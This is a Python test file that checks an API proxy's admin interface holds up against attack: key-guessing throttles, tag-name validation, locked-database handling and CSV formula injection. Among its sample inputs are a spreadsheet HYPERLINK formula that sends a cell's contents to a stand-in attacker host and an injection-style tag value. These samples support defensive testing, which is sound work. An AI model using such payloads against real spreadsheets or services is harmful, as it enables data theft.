"""Hardening of the admin API and the dashboard (tracker issue 11), tried the way a user or an attacker
would: guessing keys, flooding the API, odd tag names, formula cells in CSV exports, a locked database
and bad query values. Every test ends by checking that the process is still up and answering.

Limits and their defaults: docs/security.md (## Admin API).
"""

import csv
import io
import json
import sqlite3
import time
from decimal import Decimal

import httpx
import pytest

from access_helpers import ADMIN, Admin, PROVIDER_KEYS, loads, oai, start
from analytics_helpers import insert_history, run_cli

WRONG = "wrong-admin-key"


def alive(tg):
    """The process runs and answers, and the admin API still works for the master key."""
    assert tg.proc.poll() is None, f"tollgate exited with {tg.proc.returncode}:\n{tg.logs(4000)}"
    assert httpx.get(tg.url + "/healthz", timeout=5).status_code == 200


def from_address(address):
    """An HTTP client whose connections come from `address` (any 127.x.y.z reaches the loopback listener)."""
    return httpx.Client(transport=httpx.HTTPTransport(local_address=address), timeout=15)


def bearer(token):
    return {"Authorization": f"Bearer {token}"}


def assert_json_error(r, status, code=None):
    assert r.status_code == status, f"{r.request.method} {r.request.url} → {r.status_code} {r.text!r} (expected {status})"
    assert r.headers.get("content-type", "").startswith("application/json"), r.headers
    err = r.json()["error"]
    assert err["message"], r.text
    if code:
        assert err["code"] == code, r.text
    return err


def assert_retry_after(r):
    assert r.headers.get("retry-after", "").isdigit() and int(r.headers["retry-after"]) >= 1, r.headers


# -- 1. guessing is throttled -----------------------------------------------------------------------------

def test_wrong_admin_keys_are_throttled_per_address_with_429_and_retry_after(start_tollgate):
    tg, admin = start(start_tollgate, TOLLGATE_ADMIN_FAILED_AUTH_PER_MINUTE="5")
    attacker, other = from_address("127.0.0.1"), from_address("127.0.0.2")
    for i in range(5):
        assert_json_error(attacker.get(tg.url + "/admin/orgs", headers=bearer(f"{WRONG}-{i}")), 401, "invalid_api_key")
    refused = attacker.get(tg.url + "/admin/orgs", headers=bearer(f"{WRONG}-6"))
    err = assert_json_error(refused, 429, "rate_limit_exceeded")
    assert "failed" in err["message"] and "address" in err["message"], err
    assert_retry_after(refused)
    # While blocked, even the right key is not looked at (a right guess cannot be told from a wrong one),
    # on every admin route, and a forged X-Forwarded-For does not help.
    assert_json_error(attacker.get(tg.url + "/admin/stats", headers=bearer(ADMIN)), 429, "rate_limit_exceeded")
    assert_json_error(attacker.post(tg.url + "/admin/orgs", headers={**bearer(WRONG), "X-Forwarded-For": "10.9.8.7"},
                                    json={"id": "x"}), 429, "rate_limit_exceeded")
    assert_json_error(attacker.get(tg.url + "/admin/keys", headers={**bearer(WRONG), "X-Forwarded-For": "10.9.8.7"}),
                      429, "rate_limit_exceeded")
    # Another address is not affected.
    assert other.get(tg.url + "/admin/orgs", headers=bearer(ADMIN)).status_code == 200
    assert_json_error(other.get(tg.url + "/admin/orgs", headers=bearer(WRONG)), 401, "invalid_api_key")
    alive(tg)


def test_successful_sign_ins_take_nothing_from_the_failure_allowance(start_tollgate):
    tg, admin = start(start_tollgate, TOLLGATE_ADMIN_FAILED_AUTH_PER_MINUTE="3")
    client = from_address("127.0.0.1")
    for _ in range(2):
        assert_json_error(client.get(tg.url + "/admin/orgs", headers=bearer(WRONG)), 401)
    for _ in range(30):
        assert client.get(tg.url + "/admin/orgs", headers=bearer(ADMIN)).status_code == 200
    assert_json_error(client.get(tg.url + "/admin/orgs", headers=bearer(WRONG)), 401)  # the 3rd failure
    assert_json_error(client.get(tg.url + "/admin/orgs", headers=bearer(WRONG)), 429, "rate_limit_exceeded")
    alive(tg)


def test_unknown_tollgate_keys_are_401_without_locking_the_address_out(start_tollgate):
    """A well-formed tg_ key (190 random bits) cannot be guessed, and a script polling for a key just
    issued with the CLI must not lock itself out; a malformed one may be a guess at the master key."""
    tg, admin = start(start_tollgate, TOLLGATE_ADMIN_FAILED_AUTH_PER_MINUTE="4")
    for i in range(12):
        assert_json_error(httpx.get(tg.url + "/admin/keys", headers=bearer("tg_" + "abcdefghijkl"[i] * 32)), 401)
    assert admin.request("GET", "/admin/keys").status_code == 200
    for i in range(4):
        assert_json_error(httpx.get(tg.url + "/admin/keys", headers=bearer("tg_short" + str(i))), 401)
    assert_json_error(httpx.get(tg.url + "/admin/keys", headers=bearer("tg_" + "Z" * 32)), 429, "rate_limit_exceeded")
    alive(tg)


def test_dashboard_sign_in_is_throttled_with_a_readable_page(start_tollgate):
    tg, admin = start(start_tollgate, TOLLGATE_ADMIN_FAILED_AUTH_PER_MINUTE="3")
    for i in range(3):
        r = httpx.post(tg.url + "/dashboard/login", data={"key": f"{WRONG}-{i}"})
        assert r.status_code == 401 and "text/html" in r.headers["content-type"], r.text[:300]
    r = httpx.post(tg.url + "/dashboard/login", data={"key": ADMIN})
    assert r.status_code == 429, r.text[:300]
    assert "text/html" in r.headers["content-type"]
    assert "Too many failed" in r.text and "try again in" in r.text, r.text
    assert_retry_after(r)
    # A bearer token on the page is a sign-in too: refused while the address is blocked.
    r = httpx.get(tg.url + "/dashboard", headers=bearer(ADMIN))
    assert r.status_code == 429 and "Too many failed" in r.text, r.text[:300]
    # From another address the right key still signs in.
    r = from_address("127.0.0.2").post(tg.url + "/dashboard/login", data={"key": ADMIN})
    assert r.status_code == 303, r.text[:300]
    alive(tg)


def test_wrong_bearer_tokens_on_the_dashboard_count_as_failed_sign_ins(start_tollgate):
    tg, admin = start(start_tollgate, TOLLGATE_ADMIN_FAILED_AUTH_PER_MINUTE="3")
    for _ in range(3):
        r = httpx.get(tg.url + "/dashboard", headers=bearer(WRONG))
        assert r.status_code == 200 and "<form" in r.text  # the sign-in form
    assert_json_error(httpx.get(tg.url + "/admin/orgs", headers=bearer(ADMIN)), 429, "rate_limit_exceeded")
    alive(tg)


def test_admin_requests_are_rate_limited_per_principal(start_tollgate, tmp_path):
    config = tmp_path / "tollgate.yaml"
    config.write_text("admin:\n  requests_per_minute: 20\n  failed_auth_per_minute: 50\n")
    tg, admin = start(start_tollgate, TOLLGATE_CONFIG=str(config))
    admin.create_org("acme")
    org_admin_key = admin.create_key("acme", role="admin")["key"]
    codes = [admin.request("GET", "/admin/orgs").status_code for _ in range(18)]  # 2 taken above
    assert codes == [200] * 18, codes
    refused = admin.request("GET", "/admin/stats")
    err = assert_json_error(refused, 429, "rate_limit_exceeded")
    assert "20" in err["message"], err
    assert_retry_after(refused)
    # The org admin has an allowance of its own.
    org_admin = Admin(tg, token=org_admin_key)
    assert org_admin.request("GET", "/admin/keys").status_code == 200
    # The proxy is not the admin API: client traffic is not counted against it.
    client = oai(tg, "sk-passthrough-client")
    assert client.chat.completions.with_raw_response.create(
        model="gpt-4o-mini", messages=[{"role": "user", "content": "hi"}]).status_code == 200
    alive(tg)


def test_admin_limits_from_the_environment_and_zero_turns_them_off(start_tollgate):
    tg, admin = start(start_tollgate, TOLLGATE_ADMIN_FAILED_AUTH_PER_MINUTE="0",
                      TOLLGATE_ADMIN_REQUESTS_PER_MINUTE="0")
    for _ in range(40):
        assert_json_error(httpx.get(tg.url + "/admin/orgs", headers=bearer(WRONG)), 401)
    for _ in range(40):
        assert admin.request("GET", "/admin/orgs").status_code == 200
    alive(tg)


def test_a_bad_limit_setting_stops_the_start_with_a_message(start_tollgate):
    with pytest.raises(AssertionError) as failed:
        start(start_tollgate, TOLLGATE_ADMIN_REQUESTS_PER_MINUTE="many")
    assert "TOLLGATE_ADMIN_REQUESTS_PER_MINUTE" in str(failed.value)


def test_address_spraying_keeps_the_server_answering(start_tollgate):
    """An attacker using many source addresses: each gets its own small allowance, the server stays up."""
    tg, admin = start(start_tollgate, TOLLGATE_ADMIN_FAILED_AUTH_PER_MINUTE="2")
    for i in range(1, 121):
        with from_address(f"127.0.{i // 250}.{i % 250 + 2}") as c:
            assert c.get(tg.url + "/admin/orgs", headers=bearer(WRONG)).status_code == 401
    assert admin.request("GET", "/admin/orgs").status_code == 200
    alive(tg)


# -- 2. tag names are validated --------------------------------------------------------------------------

BAD_TAGS = ["tag.a'b", 'tag.a"b', "tag.a\\b", "tag.", "tag.a b", "tag.x;drop"]


@pytest.mark.parametrize("bad", BAD_TAGS)
def test_bad_tag_names_are_400_naming_the_field_everywhere(start_tollgate, bad):
    tg, admin = start(start_tollgate)
    cases = [
        ("/admin/stats", {bad: "x"}, bad),
        ("/admin/stats/breakdown", {"by": bad}, "'by'"),
        ("/admin/stats/timeseries", {"group_by": bad}, "'group_by'"),
        ("/admin/stats/timeseries", {bad: "x"}, bad),
        ("/admin/stats/breakdown", {"by": "model", bad: "x"}, bad),
        ("/admin/usage", {bad: "x"}, bad),
        ("/admin/export", {"format": "csv", bad: "x"}, bad),
    ]
    for path, params, named in cases:
        err = assert_json_error(admin.request("GET", path, params=params), 400, "invalid_request")
        # A space in a parameter's name arrives form-encoded, as '+'.
        assert named in err["message"] or named.replace(" ", "+") in err["message"], (path, params, err)
    page = httpx.get(tg.url + "/dashboard", params={bad: "x"}, headers=bearer(ADMIN))
    assert page.status_code == 400 and "tag" in page.text, page.text[:300]
    alive(tg)


def test_valid_tag_names_still_filter_and_break_down(start_tollgate):
    tg, admin = start(start_tollgate)
    client = oai(tg, "sk-passthrough-tags")
    for feature in ("chat", "search", "chat"):
        client.chat.completions.create(model="gpt-4o-mini", messages=[{"role": "user", "content": "hi"}],
                                       extra_headers={"X-Tollgate-Tag-Feature": feature})
    admin.wait_requests(3)
    rows = admin.call("GET", "/admin/stats/breakdown", params={"by": "tag.Feature", "from": "1d"})["data"]
    assert {r["group"]: r["requests"] for r in rows} == {"chat": 2, "search": 1}
    assert admin.stats(**{"tag.feature": "chat"})["requests"] == 2
    series = admin.call("GET", "/admin/stats/timeseries", params={"group_by": "tag.feature", "from": "1d"})
    assert sum(b["requests"] for b in series["data"]) == 3
    alive(tg)


def test_cli_refuses_a_bad_tag_breakdown_with_one_line(start_tollgate):
    tg, admin = start(start_tollgate)
    out = run_cli("stats", "--db", tg.db, "--by", "tag.a'b")
    assert out.returncode != 0
    first = out.stderr.strip().splitlines()[0]
    assert "'--by'" in first and "tag" in first, out.stderr
    out = run_cli("stats", "--db", tg.db, "--tag", "a'b=x")
    assert out.returncode != 0 and "tag" in out.stderr, out.stderr
    out = run_cli("export", "--db", tg.db, "--tag", "feature=chat")
    assert out.returncode == 0, out.stderr
    alive(tg)


# -- 3. CSV injection ------------------------------------------------------------------------------------

FORMULAS = {
    "user": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "session": "+1+1",
    "feature": "@SUM(1,2)",
    "team": "-2+3",
}


def formula_traffic(tg, admin):
    """Two requests (one full of formulas, set through a key's team and the attribution headers, one
    plain) and a copied event with negative money."""
    key = admin.create_key("default", team=FORMULAS["team"])["key"]
    client = oai(tg, key)
    client.chat.completions.create(
        model="gpt-4o-mini", messages=[{"role": "user", "content": "hi"}],
        extra_headers={"X-Tollgate-User": FORMULAS["user"], "X-Tollgate-Session": FORMULAS["session"],
                       "X-Tollgate-Tag-Feature": FORMULAS["feature"],
                       "X-Mock-Usage": json.dumps({"prompt_tokens": 10, "completion_tokens": 5})})
    oai(tg, "sk-passthrough-csv").chat.completions.create(
        model="gpt-4o-mini", messages=[{"role": "user", "content": "plain"}], user="\tTAB",
        extra_headers={"X-Tollgate-Session": "ok-session"})
    admin.wait_requests(2)
    events = admin.call("GET", "/admin/usage", params={"from": "1d"})["data"]
    plain = [e for e in events if e["session"] == "ok-session"][0]
    # A refund-like event with negative money: a number, never escaped.
    insert_history(tg.db, plain["request_id"], [("neg-money", int(time.time() * 1000) - 1000, "default", -500_000_000)])
    return events


def check_csv(text):
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    by_user = {r["user"]: r for r in rows}
    evil = by_user["'" + FORMULAS["user"]]
    assert rows and len(rows) == 3, rows
    assert evil["session"] == "'" + FORMULAS["session"]
    assert evil["team"] == "'" + FORMULAS["team"]
    assert json.loads(evil["tags"]) == {"feature": FORMULAS["feature"]}  # a JSON object cell starts with {
    assert "'\tTAB" in by_user, by_user.keys()
    assert Decimal(evil["cost_usd"]) > 0 and not evil["cost_usd"].startswith("'")
    assert evil["input_tokens"] == "10" and evil["status"] == "200"
    negative = [r for r in rows if r["request_id"] == "neg-money"][0]
    assert negative["cost_usd"] == "-0.5" and negative["charged_usd"] == "-0.5", negative
    # No cell in the file starts a formula any more.
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell and cell[0] in "=+@\t\r":
                raise AssertionError(f"formula cell left in the export: {cell!r}")
            if cell.startswith("-"):
                Decimal(cell)  # only numbers may start with a minus
    # The raw text: the neutralised cell is quoted, its quotes doubled (RFC 4180).
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' in text


def test_csv_exports_neutralise_formula_cells_and_keep_numbers(start_tollgate):
    tg, admin = start(start_tollgate)
    formula_traffic(tg, admin)
    r = admin.request("GET", "/admin/export", params={"format": "csv", "from": "1d"})
    assert r.status_code == 200
    check_csv(r.text)
    out = run_cli("export", "--db", tg.db, "--format", "csv", "--from", "1d")
    assert out.returncode == 0, out.stderr
    check_csv(out.stdout)
    # JSON keeps the values as they are.
    events = admin.call("GET", "/admin/usage", params={"from": "1d", "user": FORMULAS["user"]})["data"]
    assert events and events[0]["user"] == FORMULAS["user"]
    alive(tg)


# -- 4. storage failures answer JSON ---------------------------------------------------------------------

class DatabaseLock:
    """Another process's exclusive lock on the SQLite file, as `sqlite3` in a shell would hold it."""

    def __init__(self, path):
        self.conn = sqlite3.connect(path, timeout=10, isolation_level=None, check_same_thread=False)
        self.conn.execute("BEGIN EXCLUSIVE")

    def release(self):
        self.conn.execute("ROLLBACK")
        self.conn.close()


def test_admin_writes_on_a_locked_database_answer_503_json_and_recover(start_tollgate):
    tg, admin = start(start_tollgate)
    admin.create_org("acme")
    key = admin.create_key("acme")
    lock = DatabaseLock(tg.db)
    try:
        writes = [
            ("POST", "/admin/orgs", {"id": "globex"}),
            ("PATCH", f"/admin/keys/{key['id']}", {"name": "renamed"}),
            ("DELETE", "/admin/cache", None),
        ]
        for method, path, body in writes:  # each waits for SQLite's busy timeout (5 s), then gives up
            r = admin.request(method, path, body)
            err = assert_json_error(r, 503, "database_unavailable")
            assert "writable" in err["message"] and "lock" in err["message"], err
            assert_retry_after(r)
        # Reads go on while the file is locked.
        assert admin.request("GET", "/admin/orgs").status_code == 200
        assert httpx.get(tg.url + "/dashboard", headers=bearer(ADMIN)).status_code == 200
    finally:
        lock.release()
    assert admin.request("POST", "/admin/orgs", {"id": "globex"}).status_code == 201
    alive(tg)


# -- 5. bad query values are 400 JSON --------------------------------------------------------------------

BAD_QUERIES = [
    ("/admin/keys", {"limit": "-1"}, "limit"),
    ("/admin/keys", {"limit": "abc"}, "limit"),
    ("/admin/keys", {"limit": "99999999999999999999999"}, "limit"),
    ("/admin/alerts", {"limit": "0"}, "limit"),
    ("/admin/usage", {"limit": "-1"}, "limit"),
    ("/admin/usage", {"limit": "1e3"}, "limit"),
    ("/admin/usage", {"cursor": "garbage"}, "cursor"),
    ("/admin/usage", {"cursor": "%%%"}, "cursor"),
    ("/admin/stats", {"from": "garbage"}, "from"),
    ("/admin/stats", {"to": "2026-13-45"}, "to"),
    ("/admin/stats", {"from": "99999999999999999d"}, "from"),
    ("/admin/stats", {"from": "9223372036854775807w"}, "from"),
    ("/admin/stats", {"from": "999999999999s"}, "from"),
    ("/admin/stats", {"to": "-5d"}, "to"),
    ("/admin/stats", {"from": "7d", "to": "8d"}, "from"),
    ("/admin/stats/timeseries", {"granularity": "minute"}, "granularity"),
    ("/admin/stats/timeseries", {"group_by": "colour"}, "group_by"),
    ("/admin/stats/timeseries", {"from": "99999999999999d"}, "from"),
    ("/admin/stats/breakdown", {}, "by"),
    ("/admin/stats/breakdown", {"by": "model", "order": "x"}, "order"),
    ("/admin/stats/breakdown", {"by": "model", "limit": "-5"}, "limit"),
    ("/admin/stats/forecast", {"history_days": "3"}, "history_days"),
    ("/admin/stats/forecast", {"history_days": "99999999999999999999"}, "history_days"),
    ("/admin/export", {"format": "xml"}, "format"),
    ("/admin/export", {"from": "99999999999999999d"}, "from"),
]


def test_bad_query_values_are_400_json_naming_the_parameter(start_tollgate):
    tg, admin = start(start_tollgate)
    for path, params, name in BAD_QUERIES:
        err = assert_json_error(admin.request("GET", path, params=params), 400, "invalid_request")
        assert f"'{name}'" in err["message"], (path, params, err)
    # The dashboard answers a bad filter with a 400 page, never an empty 500.
    for params in ({"from": "99999999999999999d"}, {"to": "garbage"}):
        page = httpx.get(tg.url + "/dashboard", params=params, headers=bearer(ADMIN))
        assert page.status_code == 400 and page.text, (params, page.status_code)
    alive(tg)


def test_no_admin_route_answers_an_empty_500(start_tollgate):
    tg, admin = start(start_tollgate, TOLLGATE_ADMIN_REQUESTS_PER_MINUTE="0")
    admin.create_org("acme")
    odd = ["", "-1", "abc", "%zz", "99999999999999999999999", "1e309", "tag.", "'", "\"", "\\", "\x00", "é" * 300]
    paths = ["/admin/orgs", "/admin/keys", "/admin/budgets", "/admin/alerts", "/admin/stats", "/admin/stats/timeseries",
             "/admin/stats/breakdown", "/admin/stats/forecast", "/admin/usage", "/admin/cache", "/admin/pricing"]
    params = ["limit", "from", "to", "cursor", "org", "by", "group_by", "granularity", "order", "history_days", "compare"]
    for path in paths:
        for param in params:
            for value in odd:
                r = admin.request("GET", path, params={param: value})
                assert r.status_code < 500, (path, param, value, r.status_code, r.text)
                if r.status_code >= 400:
                    assert_json_error(r, r.status_code)
    # Odd ids and bodies on the record routes.
    for path in ["/admin/orgs/%27", "/admin/keys/" + "x" * 5000, "/admin/budgets/%00"]:
        for method in ("GET", "PATCH", "DELETE"):
            r = admin.request(method, path, {} if method == "PATCH" else None)
            assert r.status_code < 500 and r.text, (method, path, r.status_code)
    for body in ("[1]", "{", "\"x\"", "null", "{\"id\": {\"a\": 1}}", "{\"markup_pct\": 1e309}"):
        r = admin.http.post("/admin/orgs", content=body, headers={"content-type": "application/json"})
        assert_json_error(r, 400)
    big = admin.http.post("/admin/orgs", content=b"{" + b" " * (2 << 20) + b"}")
    assert_json_error(big, 413, "request_too_large")
    r = httpx.post(tg.url + "/dashboard/login", data={"key": "x" * (100 << 10)})
    assert r.status_code == 413 and r.text, r.status_code
    alive(tg)


def test_an_unknown_admin_endpoint_answers_a_json_404_behind_auth(start_tollgate):
    tg, _ = start(start_tollgate)
    auth = {"Authorization": f"Bearer {ADMIN}"}
    for method, path in [("GET", "/admin/stats/nothing"), ("POST", "/admin/no/such/thing"), ("DELETE", "/admin/x")]:
        r = httpx.request(method, tg.url + path, headers=auth, timeout=5)
        assert r.status_code == 404, (method, path, r.status_code, r.text)
        assert r.json()["error"]["code"] == "not_found" and path in r.json()["error"]["message"]
    # without a key it is 401 first: the admin API does not tell strangers which paths exist
    r = httpx.get(tg.url + "/admin/stats/nothing", timeout=5)
    assert r.status_code == 401 and r.json()["error"]["code"] == "invalid_api_key"


def test_a_method_a_known_path_does_not_take_answers_a_json_404_too(start_tollgate):
    tg, _ = start(start_tollgate)
    auth = {"Authorization": f"Bearer {ADMIN}"}
    for method, path in [("PUT", "/admin/orgs"), ("POST", "/admin/stats"), ("PATCH", "/admin/audit"), ("GET", "/admin"),
                         ("GET", "/admin/"), ("GET", "/tollgate/v1/feedback"), ("POST", "/tollgate/v1/me"), ("GET", "/tollgate/v2/x")]:
        r = httpx.request(method, tg.url + path, headers=auth, timeout=5)
        assert r.status_code == 404, (method, path, r.status_code, r.text)
        assert r.json()["error"]["code"] == "not_found" and path in r.json()["error"]["message"], (method, path)
    assert httpx.head(tg.url + "/admin/orgs", headers=auth, timeout=5).status_code == 404
